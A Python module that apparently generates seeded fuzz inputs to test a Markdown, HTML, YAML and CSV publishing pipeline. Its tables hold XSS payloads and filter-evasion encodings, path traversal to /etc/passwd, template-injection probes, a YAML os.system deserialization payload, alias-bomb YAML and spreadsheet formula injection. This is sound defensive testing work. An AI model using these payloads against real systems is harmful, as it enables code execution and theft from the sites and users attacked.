"""Texts as hostile or careless hands put them into data: made by a chance, the same for the same seed."""

import html
import random
from collections.abc import Callable
from urllib.parse import quote

TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//xau.example/a.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "<script",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1) ", "<IMG/SRC=x/ONERROR=alert(1)>",
    "<svg onload=alert(1)>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href=//xau.example/a.svg#x>",
    "<body onload=alert(1)>", "<details ontoggle=alert(1) open>", "<p onclick=alert(1)>x</p>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) ",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><p onclick=alert(1)>", "</pre></div></body></html>",
    "<iframe src=https://xau.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=a.pdf>", "<embed src=a.pdf>",
    "<base href=https://xau.example/>", "<meta http-equiv=refresh content=0;url=https://xau.example>", "<link rel=stylesheet href=//xau.example/a.css>",
    "<style>*{background:url(//xau.example)}</style>", "<p style=position:fixed>x</p>", "<form action=https://xau.example><input name=a><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<video poster=//xau.example/a.png><source src=//xau.example/a.mp4></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<a href=javascript:alert(1)>x</a>", "<a\nhref=\"java\nscript:alert(1)\">x</a>", "<xmp><p></xmp>",
    "<b>", "<br/>", "<p/x", "</p>", "<>", "< script>", "<\x00script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<!doctype html>", "<?php x ?>",
    "<![CDATA[x]]>", "]]>", "<!--", "-->", "<!-- x -->", "<!-->", "--!>", "<!ENTITY a 'b'>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\<script\\>", "&#0;", "&#xd800;", "&#1114112;", "&nbsp;", "&shy;", "&a;", "&#x202e;",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "//xau.example/a", "\\\\xau.example/a", "/\\xau.example/a", "///xau.example", "http:xau.example",
    "https:\\\\xau.example", "https://vi-du.example@xau.example/", "file:///etc/passwd", "blob:x", "view-source:x", "ftp://xau.example", "intent://x#Intent;end",
    "../../../../etc/passwd", "..%2f..%2fetc/passwd", "%2e%2e/", "/etc/passwd", "C:\\a", "#", "?", "", "http://[", "https:///", "https://", "https://a.vn:99999999/",
    "mailto:a@b.vn?bcc=c@d.vn", "tel:0912345678", "a.md", "../a.md#b", "gioi-thieu.md", "https://vi-du.example/a", "https://vi-du.example/a_(b)", "https://xn--a.example",
    "https://vi-du.example/?a=1&b=<c>", "https://đông-khê.example/á", "https://vi-du.example/%ff", "https://vi-du.example/" + "a" * 3000,
)  # fmt: skip
LINKED = (
    "[a]({0})", "[a](<{0}>)", '[a]({0} "t")', "[a]({0} '\"onclick=alert(1)')", "[a][r]\n\n[r]: {0}\n", "<{0}>", "![a]({0})", "[![a]({0})]({0})", "[a]: {0}", "[a]({0}",
    "[a]( {0} )", "{0}", "[{0}]({0})", "*[a]({0})*", "> [a]({0})", "- [a]({0})", "\n| a |\n|---|\n| [a]({0}) |\n", "## [a]({0})", "![a][r]\n\n[r]: {0}", "[a](b.md#{0})", '![a"onerror=alert(1) x="]({0})',
)  # fmt: skip
LISTED = (  # lists of attributes, and what other readers of Markdown take for more than text
    "{: onclick=alert(1) }", '{: style="position:fixed" }', "{:.a #b title=c}", "{ .a }", "{#id}", "[a](b){: onclick=alert(1) }", "*[HTML]: x", "[^1]\n\n[^1]: x", "[TOC]",
    "!!! note\n    x", "=== \"a\"\n    b", ":smile:", "$$x$$", "\\(x\\)", "==a==", "~~a~~", "[[a]]", "++a++", "--8<-- \"/etc/passwd\"", "![[a]]", "Term\n: x", "- [ ] a", "@a", "#a", "::: a",
    "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>`", "~~~\nx", "```", "# Một", "###### Sáu", "Một\n===", "Hai\n---", "***", "1. a\n1. b", "a  \nb", "| a | b |\n|---|---|\n| 1 |",
)  # fmt: skip
FILLED = (  # what a template engine would fill in
    "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ config }}", "{# a #}", "{#", "{{", "}}", "{%", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "%s%n", "%(a)s", "{0}", "{a!r}", "{owner}", "{owner!x}", "{owner:>2000000000}", "{year.__class__}", "{", "}", "{}", "$(id)", "`id`", "#read(\"/etc/passwd\")", "#eval(\"1\")", "@preview/a", "\\u{0}", "\\input{/etc/passwd}",
)  # fmt: skip
OURS = (  # what our own code puts into its texts, to be filled in later
    "<!--splice index-->", "<!--splice chi-so/i-1/index-->", "<!--splice khong-co-->", "<!-- splice index -->", "&lt;!--splice index--&gt;", "<!--top-->", "<!--style-->", "size:du-lieu/verdicts.csv",
    '" length="size:du-lieu/verdicts.csv"', "abcdefghijklmnop", "gghhiijjkkllmmnn", "\x02klzzwxh:0000\x03", "klzzwxh:0000", "wzxhzdk:0", "\x02amp\x03", "qq-amp-qq", "is_draft: yes", "---", "\n---\n", "...", "minh-hoa/", "data-root",
)  # fmt: skip
UNSEEN = (
    "\u200b", "\u200d", "\u00ad", "\ufeff", "\u2060", "\u3164", "\u115f", "\ufe0f", "\U000e0041", "\u034f", "\u202e", "\u202a", "\u2066", "\u2069", "\u061c", "\u200e", "\x00", "\x07", "\x1b[31m", "\x7f",
    "\x85", "\u2028", "\u2029", "\x0b", "\x0c", "\r", "\ue000", "\U0010ffff", "\uffff", "\ufffd", "\u0301" * 100, "e\u0301", "👩‍👩‍👧", "🏳️‍🌈", "\u00a0", "\u2003", "\u3000", "\u2800", "ﷺ", "Ｈｏａ", "Ноа", "ı", "ß", "ǅ", "İ",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "-0", "1.5", "1,5", "1.234", "1 234", "1e9", "1e400", "1e-400", "9" * 400, "999999999999999999", "0x1F", "0o17", "1_000", "1:30", ".5", "5.", "+1", "∞", "NaN", ".nan", ".inf", "½", "²", "١٢", "２０２５", "Ⅳ", "007",
    "100%", "-5%", "2026-02-30", "0001-01-01", "9999-12-31", "2100-01-01", "2026-11-24", "24/11/2026", "2026-W48-2", "1899", "2099", "99999", "2026-11-24T10:00:00Z", "0912 345 678", "012345678901", "+84 912 345 678",
)  # fmt: skip
YAML = (
    "a: &a [x]\nb: *a", "<<: *a", "a: &x\n  <<: *x", "? a\n: b", "? [a, b]\n: c", "---", "--- a", "...", "%YAML 1.1", "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary aGk=", "!!set {a}", "!!float x", "!!timestamp x",
    "!a b", "!<tag:a> b", "&a b", "*a", "&a *a", "- - - a", "[[[[", "{a: {b: {c: ", "[a, b]", "{a: b}", "{a, b}", "a: b: c", "a: 'b", 'a: "b', '"\\ud800"', '"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"', '"\\0"', '"\\u202e"', '"\\U00110000"', "|2-\n  a", "|9\n a", ">+\n\n a",
    "''", "'''", '""', "\t", "\ta: b", "@a", "%a", "`a`", "null", "~", "true", "yes", "no", "=", "<<", "-", "?", ":", ": ", "#", "a #b", "- a\n-b", "a:\n- b\n c: d", "[" * 2000, "{a: " * 500, "- " * 1000, "&a " * 50, "a: &l [x, x]\nb: &m [*l, *l]\nc: &n [*m, *m]\nd: [*n, *n]",
    "\n".join([f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" if n else "l0: &l0 [a]" for n in range(9)]),
)  # fmt: skip
CELLS = (
    "=1+1", '=HYPERLINK("https://xau.example","a")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1", "'=1", "=", "@", "+", "-", "%0A=1", ";=1", "a;=1", '"', '""', 'a"b', "a\nb", "a\r\nb", "a,b", ";", ";;", "a;b;c", "a;a", "|", "\ufeff=1",
)  # fmt: skip
WORDS = (
    "", " ", "x", "I.1", "QH", "vi", "en", "fr", "demo", "Đông Khê", "Đông Khê".encode().decode("latin-1"), "ThÃ nh", "Th?nh ph?", "..", ".", "a/b", "A" * 300, "á" * 300, "tu-phap", "2025", "gs-7f3a", "không-có", "..\\a", "con", "NUL", "a.b", "index", "404", "assets", "en/", "minh-hoa", "a" * 300,
    "../../a", "/etc/passwd", "~", "~root", "a\tb", "\\", "\\n", "'", "’", "“”", "…", "–", "&", "&&", "@", "#", "§", "%", "https://a.vn/#b", "a@b.vn",
)  # fmt: skip
REPEATED = ("[", "![", "(", "> ", ">", "- ", "*", "**a", "_", "`", "#", "|", "~", "&amp;", "&#x", "<", "</", "\\", "a", "a ", "á", "\u0301", "1", "0912", "{", "{{", "<a ", "[a](", "[a][", "\n> - ", "  - a\n", "\n", "=", "'", '"', "a@", "0.", ":", "http://", "<!--", "\t", "a-", "|-")  # fmt: skip
KINDS: tuple[tuple[str, ...], ...] = (TAGS, LISTED, FILLED, OURS, UNSEEN, NUMBERS, YAML, CELLS, WORDS)


def write_hostile(chance: random.Random) -> str:
    """A hostile text, mostly short."""
    how = chance.randrange(len(KINDS) + 4)
    if how < len(KINDS):
        return twist(chance, chance.choice(KINDS[how]))
    if how == len(KINDS):
        return chance.choice(REPEATED) * chance.choice((10, 100, 1000, 1000, 10_000, 50_000))
    if how == len(KINDS) + 1:
        return write_hostile(chance) + chance.choice((" ", "", "\n", "\n\n")) + write_hostile(chance)
    address = disguise(chance, chance.choice(ADDRESSES))
    return chance.choice(LINKED).format(address)


def disguise(chance: random.Random, address: str) -> str:
    """An address as browsers may still read it, though its letters are others."""
    first, rest = address[:1], address[1:]
    half = len(address) // 2
    ways: tuple[Callable[[], str], ...] = (
        lambda: address, lambda: address, lambda: address, lambda: address.swapcase(), lambda: address.title(),
        lambda: f"&#{ord(first or 'a')};{rest}", lambda: f"&#x{ord(first or 'a'):x};{rest}", lambda: f"&#{ord(first or 'a'):07d}{rest}",
        lambda: address.replace(":", "&colon;"), lambda: address.replace(":", "&#58;"), lambda: address.replace(":", "%3A"), lambda: address.replace(":", "："),
        lambda: f"{address[:half]}&Tab;{address[half:]}", lambda: f"{address[:half]}&NewLine;{address[half:]}", lambda: f"{address[:half]}\t{address[half:]}",
        lambda: f"{address[:half]}\u200b{address[half:]}", lambda: f"{address[:half]}\\{address[half:]}", lambda: f" {address}", lambda: f"\x01{address}", lambda: f"&#1;{address}",
        lambda: quote(address), lambda: "".join(f"&#{ord(letter)};" for letter in address), lambda: "".join(f"&#x{ord(letter):X};" for letter in address), lambda: html.escape(address),
    )  # fmt: skip
    return chance.choice(ways)()


def twist(chance: random.Random, text: str) -> str:
    """A text as it is, mostly; or cut, doubled, in other letters, or with what nobody sees in it."""
    at = chance.randint(0, len(text))
    ways: tuple[Callable[[], str], ...] = (
        *(lambda: text,) * 8, lambda: text[:at], lambda: text[at:], lambda: text * 2, lambda: text.swapcase(),
        lambda: html.escape(text), lambda: "".join(f"&#{ord(letter)};" for letter in text), lambda: quote(text, errors="replace"),
        lambda: text[:at] + chance.choice(UNSEEN) + text[at:], lambda: "".join(f"\\{letter}" for letter in text),
        lambda: text.replace(" ", "\n"), lambda: f" {text} ", lambda: f"\n\n{text}\n\n",
    )  # fmt: skip
    return chance.choice(ways)()
